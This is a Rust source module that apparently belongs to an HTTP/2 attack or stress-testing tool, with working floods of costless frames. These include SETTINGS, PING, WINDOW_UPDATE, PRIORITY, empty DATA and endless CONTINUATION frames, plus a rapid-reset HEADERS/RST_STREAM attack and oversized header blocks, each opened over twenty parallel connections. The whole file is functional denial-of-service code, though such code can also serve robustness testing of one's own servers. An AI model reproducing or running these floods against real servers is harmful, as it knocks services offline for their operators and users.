//! Frames that cost their sender nothing.

use std::io;

use tokio::io::AsyncWrite;

use super::{Until, on_each, path};
use crate::target::Target;
use crate::wire::{self, flag, kind};

/// Connections of one attack.
const CONNECTIONS: usize = 20;
/// Frames sent in one go.
const BATCH: usize = 1_000;

pub(super) async fn settings(target: Target, until: Until) {
    flood(target, until, &[], &wire::window(65_535)).await;
}

pub(super) async fn pings(target: Target, until: Until) {
    flood(target, until, &[], &wire::frame(kind::PING, 0, 0, &[0; 8])).await;
}

pub(super) async fn windows(target: Target, until: Until) {
    // By so little that the window never overflows.
    flood(target, until, &[], &wire::frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())).await;
}

pub(super) async fn priorities(target: Target, until: Until) {
    flood(target, until, &[], &wire::frame(kind::PRIORITY, 0, 1, &[0; 5])).await;
}

pub(super) async fn empty_data(target: Target, until: Until) {
    flood(target, until, &target.call(1, path::SESSION), &wire::frame(kind::DATA, 0, 1, &[])).await;
}

/// Sends `first`, and then the same frame for ever, while what comes back is read and forgotten.
async fn flood(target: Target, until: Until, first: &[u8], frame: &[u8]) {
    let batch = frame.repeat(BATCH);
    on_each(CONNECTIONS, until, async || {
        let stream = target.greet(65_535).await?;
        let (mut reader, mut writer) = tokio::io::split(stream);
        let reading = tokio::spawn(async move { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await });
        wire::say(&mut writer, first).await?;
        let flooded = send(&mut writer, until, || batch.clone()).await;
        reading.abort();
        flooded
    })
    .await;
}

pub(super) async fn resets(target: Target, until: Until) {
    each_call(target, until, |stream, batch| {
        batch.extend(target.call(stream, path::SESSION));
        batch.extend(wire::frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    })
    .await;
}

pub(super) async fn large_headers(target: Target, until: Until) {
    let value = "x".repeat(10_000);
    let more: Vec<(&str, &str)> = (0..20).map(|_| ("x-much", value.as_str())).collect();
    let block = target.headers(path::STATUS, &more);
    each_call(target, until, move |stream, batch| {
        let mut parts = block.chunks(16_000).peekable();
        let mut kind = kind::HEADERS;
        while let Some(part) = parts.next() {
            let flags = if parts.peek().is_none() { flag::END_HEADERS } else { 0 };
            batch.extend(wire::frame(kind, flags, stream, part));
            kind = kind::CONTINUATION;
        }
    })
    .await;
}

/// Calls one after the other, each with its own number.
async fn each_call(target: Target, until: Until, call: impl Fn(u32, &mut Vec<u8>)) {
    on_each(CONNECTIONS, until, async || {
        let stream = target.greet(65_535).await?;
        let (mut reader, mut writer) = tokio::io::split(stream);
        let reading = tokio::spawn(async move { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await });
        let mut number = 1;
        let flooded = send(&mut writer, until, || {
            let mut batch = Vec::new();
            for _ in 0..10 {
                call(number, &mut batch);
                number += 2;
            }
            batch
        })
        .await;
        reading.abort();
        flooded
    })
    .await;
}

pub(super) async fn continuations(target: Target, until: Until) {
    let more = wire::frame(kind::CONTINUATION, 0, 1, &target.headers(path::STATUS, &[]));
    let first = wire::frame(kind::HEADERS, 0, 1, &[]);
    flood(target, until, &first, &more).await;
}

async fn send(
    writer: &mut (impl AsyncWrite + Unpin),
    until: Until,
    mut batch: impl FnMut() -> Vec<u8>,
) -> io::Result<()> {
    while !until.over() {
        wire::say(writer, &batch()).await?;
    }
    Ok(())
}
